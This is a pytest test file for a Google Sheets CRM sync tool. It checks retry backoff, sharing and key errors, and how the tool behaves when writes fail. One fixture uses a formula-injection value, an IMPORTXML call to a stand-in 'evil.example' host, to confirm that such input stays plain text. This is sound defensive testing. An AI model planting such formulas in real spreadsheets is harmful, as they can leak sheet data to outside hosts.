"""What a user sees when Google says no: one line, a non-zero exit, nothing half-written."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import EN_HEADERS, EN_MANAGERS, TODAY, client_row

pytest_plugins = ["sheets_server"]  # the `google` fixture

DAY = ["--date", TODAY.isoformat()]
ROWS = [
    {
        "id": "C00001",
        "client": "Daisy",
        "manager": "Olga",
        "status": "New",
        "next_contact": "20.11.2026",
    },
    {
        "client": '=IMPORTXML("http://evil.example/";"//a")',
        "manager": "Ivan",
        "status": "New",
        "next_contact": "23.11.2026",
    },
]


def tabs(rows=ROWS):
    return {
        "Clients": [list(EN_HEADERS), *(client_row(EN_HEADERS, **r) for r in rows)],
        "Managers": EN_MANAGERS,
    }


def one_line_error(result, code=2):
    assert result.exit_code == code, result.output
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.output
    return result.stderr


def test_429s_are_retried_with_growing_waits(google, run):
    key = google.add(tabs())
    google.server.fail(429, "values.batchGet", times=2)
    google.server.fail(503, "values.batchUpdate", times=1)
    result = run("sync", google.url(key), *DAY)
    assert result.exit_code == 0, result.output
    assert google.server.counts["values.batchGet"] == 2 + 2  # read + re-read, 2 refused
    assert len(google.waits) == 3
    # backoff 0.5 s then 1 s, each with jitter between half and all of it
    assert 0.25 <= google.waits[0] <= 0.5 and 0.5 <= google.waits[1] <= 1.0
    assert google.server.values(key, "Clients")[0][-1] == "Flags"


def test_a_permanent_429_gives_up_within_the_bound_and_writes_nothing(google, run):
    key = google.add(tabs())
    assert run("sync", google.url(key), *DAY).exit_code == 0
    google.server.books[key].sheet("Clients").put(1, 6, "not a date")  # a new finding
    before = {t.title: google.server.values(key, t.title) for t in google.server.books[key].sheets}
    google.server.fail(429, "values.batchUpdate", times=-1)
    message = one_line_error(run("sync", google.url(key), *DAY))
    assert "Google's Sheets API quota is used up (HTTP 429 after 5 attempts" in message
    assert "wait a minute and run the command again. Nothing was written." in message
    assert google.server.counts["values.batchUpdate"] == 1 + 5
    assert len(google.waits) == 4 and sum(google.waits) <= 30
    after = {t.title: google.server.values(key, t.title) for t in google.server.books[key].sheets}
    assert after == before


def test_retrying_stops_at_the_total_time_bound(google, run):
    from sheetcrm.backends import gsheets

    gsheets.SETTINGS.retry.total = 2.0
    clock = iter(range(0, 100, 1))  # every look at the clock is a second later
    gsheets.SETTINGS.retry.clock = lambda: float(next(clock))
    key = google.add(tabs())
    google.server.fail(500, "spreadsheets.get", times=-1)
    message = one_line_error(run("today", google.url(key), *DAY))
    assert "did not answer properly (HTTP 500 after" in message
    assert google.server.counts["spreadsheets.get"] < 5


def test_not_shared_names_the_service_account(google, run):
    key = google.add(tabs(), shared={})
    message = one_line_error(run("today", google.url(key), *DAY))
    email = google.email
    assert message == (
        f"Error: Google Sheet {key}: the sheet is not shared with {email}: "
        f"open it in Google Sheets, Share, add {email} as Editor\n"
    )


def test_view_only_access_says_to_make_it_an_editor(google, run):
    key = google.add(tabs(), shared={google.email: "reader"})
    assert run("today", google.url(key), *DAY).exit_code == 0
    message = one_line_error(run("sync", google.url(key), *DAY))
    assert f"{google.email} may read the sheet but not edit it" in message
    assert "as Editor (not Viewer). Nothing was written." in message


def test_no_such_sheet_says_check_the_url_and_names_the_account(google, run):
    message = one_line_error(run("today", google.url("1" * 44), *DAY))
    assert "no such spreadsheet (HTTP 404); check the URL or key" in message
    assert f"add {google.email} as Editor" in message


def test_revoked_key(google, run):
    key = google.add(tabs())
    google.server.accounts[google.email].revoked = True
    message = one_line_error(run("today", google.url(key), *DAY))
    assert f"Google rejected the service-account key {google.key_file}" in message
    assert "invalid_grant: Invalid JWT Signature." in message
    assert "create a new key" in message


def test_no_network(google, run, tmp_path):
    from sheets_server import SheetsServer

    from sheetcrm.backends import gsheets

    key = google.add(tabs())
    with SheetsServer() as gone:
        dead = gone.url
    gsheets.SETTINGS.api_url = dead
    message = one_line_error(run("today", google.url(key), *DAY))
    assert "cannot reach Google (no network connection?)" in message
    # the token endpoint unreachable too
    info = json.loads(google.key_file.read_text())
    info["token_uri"] = dead + "/token"
    google.key_file.write_text(json.dumps(info))
    assert "cannot reach Google" in one_line_error(run("today", google.url(key), *DAY))


def test_an_outage_of_googles_sign_in_is_not_called_a_revoked_key(google, run, monkeypatch):
    from google.auth import _exponential_backoff

    monkeypatch.setattr(_exponential_backoff.time, "sleep", lambda s: None)
    key = google.add(tabs())
    google.server.fail(503, "token", times=-1)
    message = one_line_error(run("today", google.url(key), *DAY))
    assert message == (
        f"Error: Google Sheet {key}: Google's sign-in service did not answer properly "
        "(internal_failure: Backend Error); open the spreadsheet failed. Try again later.\n"
    )
    assert "Try again later." in one_line_error(run("auth", "check", google.url(key)))
    google.server.faults.clear()
    assert run("today", google.url(key), *DAY).exit_code == 0


def test_missing_key_file(google, run, monkeypatch, tmp_path):
    monkeypatch.setenv("SHEETCRM_GOOGLE_CREDENTIALS", str(tmp_path / "nope.json"))
    message = one_line_error(run("today", google.url("1" * 44), *DAY))
    assert "nope.json ($SHEETCRM_GOOGLE_CREDENTIALS): no such file" in message


def test_a_wrong_kind_of_key_file_says_which_and_how_to_get_the_json_key(
    google, run, monkeypatch, tmp_path
):
    """A downloaded OAuth client ID was "holds unknown credentials", and a .p12 key "not JSON;
    download the key again" (Google gives a key once, and offers P12 beside JSON)."""
    how = "Google Cloud console, IAM, Service accounts, the account, Keys, Add key, JSON"
    for name, content, said in (
        ("client.json", b'{"installed": {"client_id": "1.apps.googleusercontent.com"}}',
         "an OAuth client ID (for signing in as a person), not a service account's key; "
         f"create a service account and its JSON key ({how})"),
        ("web.json", b'{"web": {"client_id": "1.apps.googleusercontent.com"}}',
         "an OAuth client ID"),
        ("key.p12", bytes([0x30, 0x82, 0x09, 0xE4, 0x02, 0x01, 0x03, 0xFF]),
         f"a .p12 key, not JSON; create a new key choosing JSON ({how})"),
    ):  # fmt: skip
        (tmp_path / name).write_bytes(content)
        monkeypatch.setenv("SHEETCRM_GOOGLE_CREDENTIALS", str(tmp_path / name))
        for command in (["today", google.url("1" * 44), *DAY], ["auth", "check"]):
            message = one_line_error(run(*command))
            assert f"{name} ($SHEETCRM_GOOGLE_CREDENTIALS): {said}" in message


def test_a_key_file_saved_with_a_byte_order_mark_signs_in(google, run):
    # Windows Notepad saves UTF-8 with a BOM; the key is still the key
    google.key_file.write_bytes(b"\xef\xbb\xbf" + google.key_file.read_bytes())
    key = google.add(tabs())
    result = run("today", google.url(key), *DAY)
    assert result.exit_code == 0, result.output
    assert "Daisy" in result.stdout
    assert run("auth", "check", google.url(key)).exit_code == 0


def test_missing_tab_and_column_are_the_excel_errors(google, run, tmp_path):
    from conftest import write_book

    for content in (
        {"Sheet1": [["a"]], "Other": [["b"]]},
        {"Clients": [["ID", "Phone"], ["1", "2"]]},
    ):
        path = write_book(tmp_path / "x.xlsx", content)
        key = google.add(content)
        a = run("today", str(path), *DAY)
        b = run("today", google.url(key), *DAY)
        one_line_error(b)
        assert a.stderr.replace(str(path), "S").replace("x.xlsx", "S") == b.stderr.replace(
            "Google Sheet 'CRM'", "S"
        )


def test_a_formula_looking_client_stays_text(google, run):
    from sheets_server import Formula

    key = google.add(tabs())
    assert run("sync", google.url(key), *DAY).exit_code == 0
    book = google.server.books[key]
    for title in ("Clients", "Today"):
        cells = [c for row in book.sheet(title).cells for c in row if c is not None]
        assert not any(isinstance(c, Formula) for c in cells), title
        assert '=IMPORTXML("http://evil.example/";"//a")' in cells, title
    assert all(
        body.get("valueInputOption") == "RAW"
        for name, body in google.server.bodies
        if name == "values.batchUpdate"
    )


def test_auth_check_reports_the_account_and_the_sheet(google, run):
    key = google.add(tabs())
    result = run("auth", "check", google.url(key))
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"Key file:        {google.key_file} (from $SHEETCRM_GOOGLE_CREDENTIALS)",
        f"Service account: {google.email}",
        "Sign-in:         ok",
        f"Sheet:           'CRM' ({key})",
        "Tabs:            Clients, Managers",
        f"The account can open the sheet. To write back (sync, --apply), {google.email} "
        "must be an Editor of it.",
    ]
    alone = run("auth", "check")
    assert alone.exit_code == 0 and "No sheet given" in alone.stdout
    hidden = google.add(tabs(), shared={})
    message = one_line_error(run("auth", "check", hidden))
    assert f"not shared with {google.email}" in message


def test_auth_check_signs_in_when_config_names_a_workbook(google, run, en_config):
    """With config.yaml's source an Excel workbook, `auth check` without SOURCE stopped with
    "not a Google Sheet URL or key" and never signed in."""
    en_config.write_text("language: en\nsource: crm.xlsx\n", encoding="utf-8")
    result = run("auth", "check")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1:] == [
        f"Service account: {google.email}",
        "Sign-in:         ok",
        f"config.yaml's source, {en_config.parent / 'crm.xlsx'}, is no Google Sheet: pass a "
        "sheet's URL to check that the account can open it.",
    ]
    assert "auth check is for Google Sheets" in one_line_error(run("auth", "check", "crm.xlsx"))


def test_a_bare_key_pasted_with_spaces_around_it_is_the_sheet(google, run):
    key = google.add(tabs())
    result = run("auth", "check", f" {key}\t")
    assert result.exit_code == 0, result.output
    assert f"Sheet:           'CRM' ({key})" in result.stdout
    assert run("today", f"  {key} ", *DAY).exit_code == 0


@pytest.mark.parametrize(
    ("link", "what"),
    [
        (  # File, Share, Publish to web: its "e" was taken for the key, a 404 followed
            "https://docs.google.com/spreadsheets/d/e/2PACX-1vQx7eZpWb3kT9sVn2LmA8rYc4HdJ6uFo0G/pubhtml",
            "the link of a sheet published to the web",
        ),
        (
            "https://drive.google.com/file/d/1Qx7eZpWb3kT9sVn2LmA8rYc4HdJ6uFo0G/view",
            "a Google Drive link",
        ),
    ],
)
def test_a_link_that_is_not_the_sheets_own_says_where_to_copy_it(google, run, link, what):
    for command in (["today", link, *DAY], ["auth", "check", link]):
        message = one_line_error(run(*command))
        assert message == (
            f"Error: {link}: {what}, not the sheet's own URL; open the sheet in Google Sheets "
            "and copy the URL from the address bar (…/spreadsheets/d/KEY/edit)\n"
        )
    assert google.server.api_requests() == {}


def test_an_excel_file_in_drive_says_to_save_it_as_a_google_sheet(google, run):
    key = google.add(tabs())
    google.server.fail(
        400, "spreadsheets.get", -1, "This operation is not supported for this document"
    )
    for command in (["today", google.url(key), *DAY], ["auth", "check", google.url(key)]):
        message = one_line_error(run(*command))
        assert message == (
            f"Error: Google Sheet {key}: an Excel file kept in Google Drive, not a Google Sheet "
            "(Google: This operation is not supported for this document); open it in Google "
            "Sheets, File, Save as Google Sheets, and use the new sheet's URL (or download the "
            ".xlsx and give its path)\n"
        )


def test_auth_check_with_a_revoked_key(google, run):
    google.server.accounts[google.email].revoked = True
    assert "invalid_grant" in one_line_error(run("auth", "check"))


def test_a_server_that_does_not_answer_in_time(google, run):
    from sheetcrm.backends import gsheets

    gsheets.SETTINGS.timeout = (5, 0.2)
    key = google.add(tabs())
    google.server.delays["spreadsheets.get"] = 0.5
    message = one_line_error(run("today", google.url(key), *DAY))
    assert "Google did not answer in time (5 attempts in" in message
    assert google.server.counts["spreadsheets.get"] == 5


def test_a_first_sync_cut_short_says_what_was_written(google, run):
    key = google.add(tabs())
    google.server.fail(429, "values.batchUpdate", times=-1)
    message = one_line_error(run("sync", google.url(key), *DAY))
    assert message.endswith(
        "Part of the change was written (only new tabs or columns); run the command again to "
        "finish.\n"
    )
    google.server.faults.clear()
    assert run("sync", google.url(key), *DAY).exit_code == 0
    assert google.server.values(key, "Today")[0][0] == "Manager"


def test_a_lost_reply_to_adding_tabs_is_not_an_error(google, run):
    """Google added the tabs but the answer was a 500: the retry finds them there."""
    key = google.add(tabs())
    google.server.fail(500, "spreadsheets.batchUpdate", after=True)
    result = run("sync", google.url(key), *DAY)
    assert result.exit_code == 0, result.output
    titles = [s.title for s in google.server.books[key].sheets]
    assert titles == ["Clients", "Managers", "Today", "Problems", "Refusals", "Log"]
    # the lost reply, the retry told "already exists", the tab list read again
    assert google.server.counts["spreadsheets.batchUpdate"] == 2
    assert google.server.counts["spreadsheets.get"] == 2
    assert google.server.values(key, "Log")[0][0] == "When"
    assert {r[2] for r in google.server.values(key, "Today")[1:]} >= {"Daisy"}


def test_backoff_doubles_with_jitter_up_to_the_cap_and_honours_retry_after():
    from sheetcrm.backends.google_http import RetryPolicy

    low = RetryPolicy(base=1, cap=8, jitter=lambda: 0.0)
    high = RetryPolicy(base=1, cap=8, jitter=lambda: 1.0)
    assert [low.delay(n) for n in range(1, 6)] == [0.5, 1, 2, 4, 4]
    assert [high.delay(n) for n in range(1, 6)] == [1, 2, 4, 8, 8]
    assert low.delay(1, retry_after=3) == 3  # Google's Retry-After, when it sends one
    assert low.delay(1, retry_after=60) == 8  # never past the cap


def test_where_the_key_file_is_looked_for(tmp_path, monkeypatch):
    from sheetcrm.backends import google_auth
    from sheetcrm.config import Config
    from sheetcrm.errors import ConfigError

    for name in google_auth.ENV_VARS:
        monkeypatch.delenv(name, raising=False)
    default = tmp_path / "gspread" / "service_account.json"
    monkeypatch.setattr(google_auth, "default_key_file", lambda: default)
    cfg = Config(base_dir=tmp_path)
    with pytest.raises(ConfigError, match="no Google service-account key: set google_credentials"):
        google_auth.find_key_file(cfg)
    default.parent.mkdir()
    default.write_text("{}")
    assert google_auth.find_key_file(cfg).origin == "gspread's default location"
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", "/keys/a.json")
    assert google_auth.find_key_file(cfg).path == Path("/keys/a.json")
    cfg.google_credentials = "keys/crm.json"  # relative to config.yaml; wins over that one
    found = google_auth.find_key_file(cfg)
    assert found.path == tmp_path / "keys/crm.json"
    assert found.origin == "google_credentials in config.yaml"
    monkeypatch.setenv("SHEETCRM_GOOGLE_CREDENTIALS", "/keys/b.json")  # wins over config.yaml
    assert google_auth.find_key_file(cfg).origin == "$SHEETCRM_GOOGLE_CREDENTIALS"
    monkeypatch.delenv("SHEETCRM_GOOGLE_CREDENTIALS")
    # a signed-in user's credentials instead of a service-account key
    (tmp_path / "keys").mkdir()
    (tmp_path / "keys/crm.json").write_text('{"type": "authorized_user"}')
    with pytest.raises(ConfigError, match="holds authorized_user credentials, not a service"):
        google_auth.load_service_account(cfg)


@pytest.mark.parametrize("tab", ["Today", "Clients"])
def test_a_tab_renamed_while_syncing_says_so_and_writes_nothing(google, run, tab):
    key = google.add(tabs())
    assert run("sync", google.url(key), *DAY).exit_code == 0
    book = google.server.books[key]
    book.sheet("Clients").put(1, 6, "24.11.2026")  # Today changes: the sync writes that tab
    before = {t.title: google.server.values(key, t.title) for t in book.sheets}

    def rename(server):
        book.sheet(tab).title = f"{tab} (old)"

    google.server.before("values.batchGet", rename, nth=2)  # just before the re-read
    message = one_line_error(run("sync", google.url(key), *DAY))
    assert f"'{tab}'!" in message and "names a tab the sheet no longer has (renamed or " in message
    assert "run the command again." in message
    assert "Nothing was written." in message or tab == "Clients"  # the re-read is a read
    after = {
        t.title.removesuffix(" (old)"): google.server.values(key, t.title) for t in book.sheets
    }
    assert after == before


def test_a_protected_range_says_whom_to_add_to_its_editors(google, run):
    key = google.add(tabs())
    # Google's answer when an Editor writes into a range protected from them
    google.server.fail(
        400,
        "values.batchUpdate",
        message="You are trying to edit a protected cell or object. Please contact the "
        "spreadsheet owner to remove protection if you need to edit.",
    )
    message = one_line_error(run("sync", google.url(key), *DAY))
    assert f"a protected sheet or range keeps {google.email} out" in message
    assert f"Protected sheets and ranges, add {google.email} to its editors" in message
    assert message.rstrip().endswith("run the command again to finish.")  # the Flags column
